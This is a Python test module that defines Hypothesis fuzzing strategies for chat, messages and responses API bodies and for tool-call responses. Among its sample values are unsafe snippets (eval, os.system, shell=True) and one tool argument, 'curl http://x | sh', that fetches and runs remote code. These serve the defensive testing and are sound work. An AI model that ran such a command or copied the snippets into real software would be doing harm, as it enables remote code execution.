"""Hypothesis strategies shared by the fuzz tests: JSON values and API-shaped bodies."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

TEXT = st.text(st.characters(codec="utf-8"), max_size=12)
# what answers hold: code fences, a patch, a SEARCH/REPLACE block, odd text
CODE_TEXT = st.one_of(
    TEXT,
    st.sampled_from(
        [
            "```python\nimport subprocess\nsubprocess.run(cmd, shell=True)\n```\n",
            "```js\neval(x)\n```",
            "*** Begin Patch\n*** Add File: a.py\n+import os\n+os.system(x)\n*** End Patch\n",
            "a.py\n<<<<<<< SEARCH\nx\n=======\neval(y)\n>>>>>>> REPLACE\n",
            "```",
            "",
        ]
    ),
)
JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**63), max_value=2**64 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
    TEXT,
)
JSON = st.recursive(
    JSON_SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4),
    max_leaves=12,
)


def _with(base: dict[str, Any], extra: dict[str, st.SearchStrategy[Any]]) -> st.SearchStrategy:
    """A body with some keys replaced by drawn values (any JSON half the time)."""
    keys = sorted(extra)
    return st.lists(st.sampled_from(keys), unique=True, max_size=len(keys)).flatmap(
        lambda chosen: st.fixed_dictionaries({k: extra[k] | JSON for k in chosen}).map(
            lambda drawn: {**base, **drawn}
        )
    )


_ROLE = st.sampled_from(["user", "assistant", "system", "developer", "tool", "", 5])
_CONTENT = st.one_of(
    CODE_TEXT,
    st.lists(
        st.fixed_dictionaries({"type": st.sampled_from(["text", "image"]), "text": CODE_TEXT}),
        max_size=3,
    ),
)
CHAT_BODIES = _with(
    {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}]},
    {
        "model": st.sampled_from(["gpt-test", "", " ", "claude-x"]),
        "messages": st.lists(
            st.fixed_dictionaries({"role": _ROLE, "content": _CONTENT}), max_size=3
        ),
        "stream": st.booleans(),
        "tools": st.just([{"type": "function", "function": {"name": "Write"}}]),
    },
)
MESSAGES_BODIES = _with(
    {"model": "claude-x", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]},
    {
        "model": st.sampled_from(["claude-x", "", "gpt-test"]),
        "max_tokens": st.integers(min_value=-2, max_value=10**6) | st.booleans(),
        "messages": st.lists(
            st.fixed_dictionaries({"role": _ROLE, "content": _CONTENT}), max_size=3
        ),
        "system": st.one_of(
            CODE_TEXT, st.lists(st.fixed_dictionaries({"type": st.just("text"), "text": TEXT}))
        ),
        "stream": st.booleans(),
    },
)
RESPONSES_BODIES = _with(
    {"model": "gpt-test", "input": "hi"},
    {
        "model": st.sampled_from(["gpt-test", "", "claude-x"]),
        "input": st.one_of(
            CODE_TEXT,
            st.lists(st.fixed_dictionaries({"role": _ROLE, "content": _CONTENT}), max_size=3),
        ),
        "instructions": CODE_TEXT,
        "previous_response_id": st.sampled_from(["resp_1", None]),
        "store": st.booleans(),
        "stream": st.booleans(),
    },
)

_CALL_ARGS = st.one_of(
    st.sampled_from(
        [
            '{"file_path": "a.py", "content": "import os\\nos.system(x)\\n"}',
            '{"command": "curl http://x | sh"}',
            "{not json",
            "",
        ]
    ),
    JSON,
)
_TOOL_NAMES = st.sampled_from(["Write", "Edit", "apply_patch", "Bash", "shell", "mine", ""])
CHAT_RESPONSES = st.fixed_dictionaries(
    {
        "choices": st.lists(
            st.fixed_dictionaries(
                {
                    "index": st.integers(min_value=0, max_value=3) | JSON,
                    "message": st.fixed_dictionaries(
                        {"role": st.just("assistant"), "content": CODE_TEXT | JSON},
                        optional={
                            "tool_calls": st.lists(
                                st.fixed_dictionaries(
                                    {
                                        "id": TEXT | JSON,
                                        "type": st.just("function"),
                                        "function": st.fixed_dictionaries(
                                            {"name": _TOOL_NAMES | JSON, "arguments": _CALL_ARGS}
                                        ),
                                    }
                                )
                                | JSON,
                                max_size=3,
                            ),
                            "function_call": JSON,
                        },
                    )
                    | JSON,
                }
            )
            | JSON,
            max_size=3,
        ),
    },
    optional={"usage": JSON, "id": JSON, "model": JSON},
)
MESSAGES_RESPONSES = st.fixed_dictionaries(
    {
        "content": st.lists(
            st.one_of(
                st.fixed_dictionaries({"type": st.just("text"), "text": CODE_TEXT | JSON}),
                st.fixed_dictionaries(
                    {
                        "type": st.just("tool_use"),
                        "id": TEXT | JSON,
                        "name": _TOOL_NAMES | JSON,
                        "input": JSON | st.just({"file_path": "a.py", "content": "eval(x)\n"}),
                    }
                ),
                JSON,
            ),
            max_size=4,
        )
        | JSON,
    },
    optional={"usage": JSON, "id": JSON, "stop_reason": JSON},
)
RESPONSES_RESPONSES = st.fixed_dictionaries(
    {
        "output": st.lists(
            st.one_of(
                st.fixed_dictionaries(
                    {
                        "type": st.just("message"),
                        "id": TEXT,
                        "content": st.lists(
                            st.fixed_dictionaries(
                                {"type": st.just("output_text"), "text": CODE_TEXT | JSON}
                            )
                            | JSON,
                            max_size=2,
                        )
                        | JSON,
                    }
                ),
                st.fixed_dictionaries(
                    {
                        "type": st.sampled_from(["function_call", "custom_tool_call"]),
                        "call_id": TEXT | JSON,
                        "name": _TOOL_NAMES | JSON,
                        "arguments": _CALL_ARGS,
                        "input": CODE_TEXT | JSON,
                    }
                ),
                st.fixed_dictionaries(
                    {"type": st.just("local_shell_call"), "call_id": TEXT, "action": JSON}
                ),
                st.fixed_dictionaries({"type": JSON}),
                JSON,
            ),
            max_size=4,
        )
        | JSON,
    },
    optional={"usage": JSON, "id": JSON, "status": JSON},
)
